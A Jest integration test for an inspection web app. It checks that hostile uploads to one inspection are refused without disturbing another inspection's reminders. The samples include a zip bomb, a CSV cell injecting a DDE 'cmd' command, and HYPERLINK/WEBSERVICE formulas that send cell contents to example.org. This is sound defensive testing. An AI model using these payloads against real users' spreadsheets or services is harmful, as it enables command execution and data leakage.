/**
 * Issue 10's "done when", on real processes: the web app (built here, as server.ts builds it) in front of a
 * real worker process (dev server, loopback SMTP). Each attack of the issue is made against inspection A through
 * its agency links, while inspection B has a reminder falling due every few seconds. Each attack must be refused
 * with a clear message, leave nothing recorded and nothing in A's file store that no accepted submission names,
 * leave the worker the same process and its memory (and its checking processes') bounded, and leave B's
 * reminders on time.
 *
 * Figures (time to refusal, peak RSS, reminder lateness) are printed at the end; the bounds asserted are
 * generous, for a busy 2-core machine.
 */
import type { FastifyInstance } from 'fastify';
import { readdirSync, readFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { openStore, type Store } from '../../src/infra/db';
import { syntheticHeaders, syntheticRow } from '../../src/lists/synthetic';
import type { Rung } from '../../src/timeline/schedule';
import { buildApp } from '../../src/web/app';
import { windowsProgram } from '../support/documents';
import { until } from '../support/eventually';
import { upcomingNotificationMonday } from '../support/harness';
import { messageKey } from '../support/smtp';
import { writeLongCsv, writeZipBomb } from '../lists/hostile-files';
import { writeXlsx, type CellIn } from '../lists/helpers';
import {
  agencyToken,
  basic,
  errorSummary,
  MB,
  pdfOf,
  postForm,
  storeContents,
  type Answer,
} from '../web/support';
import { createFaults, type Faults, startInspection, stateOf, writeList6Csv } from './support';

jest.setTimeout(10 * 60_000);

/** B's reminders: one every this often, from a few seconds after B starts, for longer than the attacks take. */
const REMINDER_EVERY_MS = 10_000;
const REMINDERS = 150;
/** How late a reminder may arrive (timer, workflow task, send activity, SMTP) on a busy 2-core machine. */
const LATENESS_BOUND_MS = 45_000;
/** Peak resident memory of the worker process, and of any one of its list-checking processes. */
const WORKER_PEAK_MB = 768;
const SANDBOX_PEAK_MB = 600;
/** The status query's answer, whatever an agency sends (issue 10). */
const STATUS_BOUND = 256 * 1024;
/** A warnings-heavy list (300 warnings) sent this many times: within the link's rate of 30 in 10 minutes. */
const HEAVY_UPLOADS = 20;

let f: Faults;
let app: FastifyInstance;
let store: Store;
let workerPid: number;
let notifiedOn: string;
/** Inspection A (attacked) and its links; inspection B (reminded). */
let A: { id: string; la: string; police: string };
let B: { id: string; rungs: { key: string; at: number }[] };
const figures: {
  attack: string;
  refusedMs: number;
  workerPeakMb: number;
  sandboxPeakMb: number;
  lateMs: number;
}[] = [];

/** The peak RSS (VmHWM, MB) of the worker and of each of its children, sampled from /proc. */
const peaks = new Map<number, number>();
let sampler: NodeJS.Timeout | undefined;
function vmHwmMb(pid: number): number | undefined {
  try {
    const m = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
    return m ? Math.round(Number(m[1]) / 1024) : undefined;
  } catch {
    return undefined; // gone
  }
}
function sample(): void {
  const seen = [workerPid];
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      // The parent's pid is the 4th field, after the command in parentheses (which may hold spaces).
      const stat = readFileSync(`/proc/${entry}/stat`, 'utf8');
      if (Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]) === workerPid) seen.push(Number(entry));
    } catch {
      // gone meanwhile
    }
  }
  for (const pid of seen) {
    const mb = vmHwmMb(pid);
    if (mb !== undefined) peaks.set(pid, Math.max(peaks.get(pid) ?? 0, mb));
  }
}
/** Where the sandbox's figures stand now: checking processes seen, and the worker's log so far. */
const mark = () => ({ pids: new Set(peaks.keys()), logged: f.worker.entries().length });
/**
 * The largest peak of a checking process since `since`: sampled, and as each one reported it (the worker's log
 * records the check's own VmHWM as it ends).
 */
function sandboxPeakMb(since: ReturnType<typeof mark>): number {
  const sampled = [...peaks].filter(([pid]) => pid !== workerPid && !since.pids.has(pid)).map(([, mb]) => mb);
  const reported = f.worker
    .entries()
    .slice(since.logged)
    .filter((r) => r.msg === 'List check ended')
    .map((r) => Number(r.peakRssMb));
  return Math.max(0, ...sampled, ...reported);
}

beforeAll(async () => {
  f = await createFaults();
  workerPid = await f.worker.start();
  sampler = setInterval(sample, 200);
  notifiedOn = upcomingNotificationMonday();
  store = await openStore(f.deployment.config.database);
  await store.users.set('coord', 'coordinator', 'coordinator-password-1');
  app = await buildApp({ client: f.client, deployment: f.deployment, store });

  // B: one of its deliverables is reminded every few seconds from a minute after the start, in real time.
  const startedAt = Date.now();
  const rungs: Rung[] = Array.from({ length: REMINDERS }, (_, i) => ({
    id: `reminder-attacks-${i + 1}`,
    kind: 'reminder',
    to: 'contact',
    at: startedAt + 5_000 + i * REMINDER_EVERY_MS,
  }));
  let chased = '';
  const b = await startInspection(f, {
    localAuthority: 'Bystander Borough',
    notifiedOn,
    edit: (schedule) => {
      const d = schedule.deliverables.find((x) => x.chase && !x.requires && x.owner === 'health');
      if (!d) throw new Error('no deliverable of health to chase');
      d.ladder = rungs;
      d.dueAt = Math.max(d.dueAt, rungs.at(-1)!.at + 3_600_000);
      chased = d.id;
    },
  });
  B = { id: b.inspectionId, rungs: rungs.map((r) => ({ key: `${chased}/${r.id}/v1`, at: r.at })) };

  const a = await startInspection(f, { localAuthority: 'Attacked Borough', notifiedOn });
  const state = await stateOf(f.client, a.inspectionId);
  A = {
    id: a.inspectionId,
    la: agencyToken(f, state, 'local-authority'),
    police: agencyToken(f, state, 'police'),
  };
}, 10 * 60_000);

afterAll(async () => {
  if (sampler) clearInterval(sampler);
  if (figures.length > 0)
    console.log(
      [
        'attack | refused in | worker peak RSS | sandbox peak RSS | B reminders, latest',
        '--- | --- | --- | --- | ---',
      ]
        .concat(
          figures.map(
            (x) =>
              `${x.attack} | ${(x.refusedMs / 1000).toFixed(1)} s | ${x.workerPeakMb} MB | ${x.sandboxPeakMb} MB | ${(x.lateMs / 1000).toFixed(1)} s late`,
          ),
        )
        .join('\n'),
    );
  await app?.close();
  await store?.close();
  await f?.close();
}, 5 * 60_000);

/** Files in A's store that nothing in A's state names (and anything left half-written in incoming/). */
async function unreferenced(): Promise<string[]> {
  const files = [...(await storeContents(f, A.id)).keys()];
  const blobs = new Map<string, string>();
  const other: string[] = [];
  for (const file of files) {
    const m = /^[0-9a-f]{2}\/([0-9a-f]{64})\.enc$/.exec(file);
    if (m?.[1]) blobs.set(m[1], file);
    else other.push(file);
  }
  const { referenced } = await f.client.fileUsage(A.id, [...blobs.keys()]);
  for (const sha of referenced) blobs.delete(sha);
  return [...blobs.values(), ...other];
}

async function submissions(deliverableId: string): Promise<unknown> {
  const d = (await stateOf(f.client, A.id)).deliverables.find((x) => x.id === deliverableId);
  return { count: d?.submissionCount ?? d?.submissions.length, receivedAt: d?.receivedAt };
}

/**
 * B's reminders that fell due from `from` until now (and at least the next one): each must arrive, no later
 * than the bound. Returns the largest lateness.
 */
async function remindersOnTime(from: number): Promise<number> {
  const until_ = Math.max(Date.now(), from + REMINDER_EVERY_MS);
  const due = B.rungs.filter((r) => r.at >= from - REMINDER_EVERY_MS && r.at <= until_);
  expect(due.length).toBeGreaterThan(0);
  const arrived = await until(
    `B's reminders due up to ${new Date(until_).toISOString()}`,
    () => {
      const byKey = new Map(f.smtp.messages.map((m) => [messageKey(m), m]));
      const found = due.map((r) => {
        const mail = byKey.get(r.key);
        return mail && { ...r, late: (f.smtp.receivedAt.get(mail) ?? Infinity) - r.at };
      });
      if (found.every((x) => x !== undefined)) return found;
      // Past the bound for the first missing one: fail now, saying which.
      const missing = due.find((_, i) => found[i] === undefined);
      if (missing && Date.now() > missing.at + LATENESS_BOUND_MS)
        throw new Error(`B's reminder ${missing.key} was not sent within ${LATENESS_BOUND_MS} ms`);
      return undefined;
    },
    until_ - Date.now() + LATENESS_BOUND_MS + 5_000,
  );
  for (const r of arrived) expect(r.late).toBeLessThan(LATENESS_BOUND_MS);
  return Math.max(...arrived.map((r) => r.late));
}

/**
 * Makes an attack (a post through one of A's links) and checks what must hold after any attack: nothing
 * recorded on `deliverableId`, nothing kept, the same worker, memory bounded, B's reminders on time.
 */
async function attack(name: string, deliverableId: string, post: () => Promise<Answer>): Promise<Answer> {
  const before = await submissions(deliverableId);
  const since = mark();
  const from = Date.now();
  const res = await post();
  const refusedMs = Date.now() - from;
  expect(await submissions(deliverableId)).toEqual(before);
  expect(await unreferenced()).toEqual([]);
  sample();
  expect(f.worker.pid).toBe(workerPid);
  expect(f.worker.starts).toBe(1);
  const workerPeakMb = peaks.get(workerPid) ?? 0;
  expect(workerPeakMb).toBeLessThan(WORKER_PEAK_MB);
  const sandboxMb = sandboxPeakMb(since);
  expect(sandboxMb).toBeLessThan(SANDBOX_PEAK_MB);
  // The other inspection's pages and the attacked one's still answer.
  expect((await app.inject({ method: 'GET', url: `/a/${A.la}` })).statusCode).toBe(200);
  const lateMs = await remindersOnTime(from);
  figures.push({ attack: name, refusedMs, workerPeakMb, sandboxPeakMb: sandboxMb, lateMs });
  return res;
}

const list6 = () => `/a/${A.la}/d/list-6`;
const documents = () => `/a/${A.police}/d/annex-a-documents.police`;
const listFile = async (file: string) => [
  { field: 'file', name: path.basename(file), content: await readFile(file) },
];
/** List 6's header and `count` valid synthetic rows, as cells. */
const rows = (count: number): CellIn[][] => [
  syntheticHeaders('6'),
  ...Array.from({ length: count }, (_, i) => syntheticRow('6', i + 1, { notifiedOn }) as CellIn[]),
];
const HYPERLINK = { formula: 'HYPERLINK("http://example.org/x?"&A2,"Open")', result: 'Open' };
const WEBSERVICE = { formula: 'WEBSERVICE("http://example.org/?"&A2)', result: '' };

describe('hostile files against one inspection, on the real web app and worker', () => {
  test('the zip bomb (a few MB of xlsx whose sheet unzips to 1.15 GB) is refused by its part size', async () => {
    const file = path.join(f.dataDir, 'bomb.xlsx');
    await writeZipBomb(file);
    const res = await attack('zip bomb xlsx', 'list-6', async () =>
      postForm(app, list6(), {}, await listFile(file)),
    );
    expect(res.statusCode).toBe(400);
    expect(res.body).toMatch(/unzips to 1,09\d MB; the most accepted for one part is 512 MB/);
    expect(res.body).toContain('was not recorded');
  });

  test('a 1,000,000-row CSV is refused by the row limit', async () => {
    const file = path.join(f.dataDir, 'million.csv');
    await writeLongCsv(file, 1_000_000);
    const res = await attack('1,000,000-row CSV', 'list-6', async () =>
      postForm(app, list6(), {}, await listFile(file)),
    );
    expect(res.statusCode).toBe(400);
    expect(res.body).toContain('The file has more than 300,000 rows');
  });

  describe('a formula anywhere is refused with its cell', () => {
    test('in a column with no header', async () => {
      const cells = rows(3);
      cells[2]?.push(null, HYPERLINK); // row 3: 16 list columns, Q empty, R the formula
      const file = await writeXlsx(path.join(f.dataDir, 'unnamed-column.xlsx'), [
        { name: 'List 6', rows: cells },
      ]);
      const res = await attack('formula, unnamed column', 'list-6', async () =>
        postForm(app, list6(), {}, await listFile(file)),
      );
      expect(res.statusCode).toBe(400);
      expect(errorSummary(res.body)).toContain(
        'Sheet 1, cell R3: formulas are not accepted; paste values only',
      );
      expect(res.body).not.toMatch(/HYPERLINK|example\.org/);
    });

    test('on a second sheet', async () => {
      const notes: CellIn[][] = [];
      notes[13] = [];
      notes[13][19] = WEBSERVICE; // T14
      const file = await writeXlsx(path.join(f.dataDir, 'second-sheet.xlsx'), [
        { name: 'List 6', rows: rows(3) },
        { name: 'Notes', rows: notes },
      ]);
      const res = await attack('formula, second sheet', 'list-6', async () =>
        postForm(app, list6(), {}, await listFile(file)),
      );
      expect(res.statusCode).toBe(400);
      expect(errorSummary(res.body)).toContain(
        'Sheet 2, cell T14: formulas are not accepted; paste values only',
      );
    });

    test("a CSV cell =cmd|' /C calc'!A0 in a column with no header", async () => {
      const file = path.join(f.dataDir, 'cmd.csv');
      await writeList6Csv(file, {
        first: 1,
        count: 3,
        flagEvery: 2,
        notifiedOn,
        edit: (row, n) => void (n === 2 && row.push("=cmd|' /C calc'!A0")),
      });
      const res = await attack('CSV =cmd cell', 'list-6', async () =>
        postForm(app, list6(), {}, await listFile(file)),
      );
      expect(res.statusCode).toBe(400);
      expect(errorSummary(res.body)).toMatch(
        /Cell Q3 starts with .*which a spreadsheet would run as a formula/,
      );
      expect(res.body).not.toContain('calc');
    });
  });

  test('a 30 MB document is refused as it arrives, and none of it is kept', async () => {
    const res = await attack('30 MB upload', 'annex-a-documents.police', () =>
      postForm(app, documents(), { note: '' }, [
        { field: 'file:3.1', name: 'structure.pdf', content: pdfOf(30 * MB, 1) },
      ]),
    );
    expect(res.statusCode).toBe(400);
    expect(errorSummary(res.body)).toContain(
      '“structure.pdf” is larger than 25 MB: split it or send it another way',
    );
  });

  test('a Windows program named report.pdf is refused whatever its name', async () => {
    const res = await attack('program named report.pdf', 'annex-a-documents.police', () =>
      // Alone: a valid file beside it in the same post would be recorded (only the bad ones are sent back).
      postForm(app, documents(), { note: '' }, [
        { field: 'file:3.2', name: 'report.pdf', content: windowsProgram },
      ]),
    );
    expect(res.statusCode).toBe(400);
    expect(errorSummary(res.body)).toContain(
      '“report.pdf” is a Windows program, not a PDF: programs are not accepted, whatever their name.',
    );
  });

  test(`a warnings-heavy list (300 warnings) sent ${HEAVY_UPLOADS} times: each recorded, the status bounded, every page answers`, async () => {
    // 100 rows with "-" (the placeholder for blank, a warning) in three optional columns.
    const file = path.join(f.dataDir, 'heavy.csv');
    await writeList6Csv(file, {
      first: 1,
      count: 100,
      flagEvery: 10,
      notifiedOn,
      edit: (row) => {
        for (const c of [10, 11, 13]) row[c] = '-';
      },
    });
    const since = mark();
    const from = Date.now();
    const times: number[] = [];
    for (let i = 0; i < HEAVY_UPLOADS; i++) {
      const t = Date.now();
      const res = await postForm(app, list6(), {}, await listFile(file));
      times.push(Date.now() - t);
      expect(res.statusCode).toBe(200);
      expect(res.body).toContain('Queries to check');
    }
    const status = await stateOf(f.client, A.id);
    expect(Buffer.byteLength(JSON.stringify(status))).toBeLessThan(STATUS_BOUND);
    const d = status.deliverables.find((x) => x.id === 'list-6');
    expect(d?.submissionCount ?? d?.submissions.length).toBe(HEAVY_UPLOADS);
    expect(d?.submissions.at(-1)?.queryCount).toBe(300);
    for (const url of [`/a/${A.la}`, list6(), `/a/${A.police}`])
      expect((await app.inject({ method: 'GET', url })).statusCode).toBe(200);
    const api = await app.inject({
      method: 'GET',
      url: `/api/inspections/${A.id}`,
      headers: basic('coord', 'coordinator-password-1'),
    });
    expect(api.statusCode).toBe(200);
    // The list and its queries file: both named by the accepted submissions, nothing else kept.
    expect(await unreferenced()).toEqual([]);
    expect(f.worker.pid).toBe(workerPid);
    sample();
    expect(peaks.get(workerPid)).toBeLessThan(WORKER_PEAK_MB);
    expect(sandboxPeakMb(since)).toBeLessThan(SANDBOX_PEAK_MB);
    const lateMs = await remindersOnTime(from);
    figures.push({
      attack: `warnings-heavy list × ${HEAVY_UPLOADS} (accepted; slowest ${(Math.max(...times) / 1000).toFixed(1)} s)`,
      refusedMs: times.reduce((a, b) => a + b, 0) / times.length,
      workerPeakMb: peaks.get(workerPid) ?? 0,
      sandboxPeakMb: sandboxPeakMb(since),
      lateMs,
    });
  });
});
